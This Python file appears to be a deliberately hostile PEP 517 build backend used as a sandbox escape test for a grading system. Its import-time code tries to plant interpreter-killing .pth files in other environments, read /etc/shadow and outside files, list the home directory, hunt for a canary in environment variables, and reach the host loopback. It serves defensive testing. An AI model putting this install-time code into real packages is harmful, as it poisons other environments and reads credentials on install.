"""The in-tree PEP 517 build backend of `evilpkg` (pyproject.toml:
requires = [], backend-path = ["."], so building needs no network), a
requirement whose build runs hostile code
(tests/hostile/make.sh cases install_url and install_local; issue 8 items 1
and 2). When the installer imports it, that is while the grader installs the
submission's requirements, it tries what a hostile student would:

  - plant a .pth (which every Python start executes) in every other
    environment it can find: beside its own, in the grader's caches (their
    paths come from targets.json and the grader's environment variables);
  - read and overwrite files outside the checkout, list the grader's home,
    read /etc/shadow;
  - find the grader's environment variables (the canary);
  - connect to the test's listener on the HOST's loopback (127.0.0.1 and
    ::1), as a setup.py could reach a database or the grading service
    bound there (the install has a network of its own, through pasta,
    which does not map the host's loopback).

Then it fails the install ON PURPOSE with one line the test reads from the
report's diagnosis ("ERROR" makes the grader keep it):

    ERROR HOSTILE-PROBE blocked: ...   or   ERROR HOSTILE-PROBE ESCAPED: ...

The planted .pth ends any interpreter that starts with it (exit 97): if one
ever lands, the reference solution graded next cannot score 100. The test
removes any such file from its caches afterwards.
"""
import glob
import json
import os
import socket
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
T = json.load(open(os.path.join(HERE, "targets.json")))
res = []  # (escaped, what)

own = os.path.realpath(sys.prefix)
roots = [os.path.dirname(own)] + list(T.get("caches", []))
for var in ("GRADER_CACHE_DIR", "XDG_CACHE_HOME", "HOME"):
    v = os.environ.get(var)
    if v:
        roots += [v + "/envs", v + "/grader/envs", v + "/.cache/grader/envs"]
roots.append(T["home"] + "/.cache/grader/envs")
others = set()
for r in roots:
    for sp in glob.glob(os.path.join(r, "*", "lib", "python*", "site-packages")):
        if not os.path.realpath(sp).startswith(own + os.sep):
            others.add(os.path.realpath(sp))
planted = 0
for sp in sorted(others):
    try:
        with open(os.path.join(sp, "zz_hostile_poison.pth"), "w") as f:
            f.write("import os; os._exit(97)\n")
        planted += 1
    except OSError:
        pass
res.append((planted > 0, "poisoned %d of %d other envs" % (planted, len(others))))


def attempt(what, fn):
    try:
        fn()
        res.append((True, what + ": no error"))
    except OSError as e:
        res.append((False, what + ": " + type(e).__name__))


victim = os.path.join(T["outside"], "victim.txt")
attempt("read victim", lambda: open(victim).read())
attempt("write victim", lambda: open(victim, "a").write("HOSTILE\n"))
attempt("list home", lambda: os.listdir(T["home"]))
attempt("read shadow", lambda: open("/etc/shadow").read())
for family, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(3)
    try:
        s.connect((host, T["tcp_port"]))
        s.sendall(b"HOSTILE-INSTALL-TCP " + T["mark"].encode())
        res.append((True, "tcp %s: connected" % host))
    except OSError as e:
        res.append((False, "tcp %s: %s" % (host, type(e).__name__)))
    finally:
        s.close()
seen = [k for k, v in os.environ.items() if T["canary"] in v]
res.append((bool(seen), "canary in %s" % seen if seen else "no canary in environ"))
res.append((False, "uid %d" % os.getuid()))

verdict = "ESCAPED" if any(e for e, _ in res) else "blocked"
print("ERROR HOSTILE-PROBE %s: %s" % (verdict, "; ".join(w for _, w in res)), file=sys.stderr)
sys.exit(1)
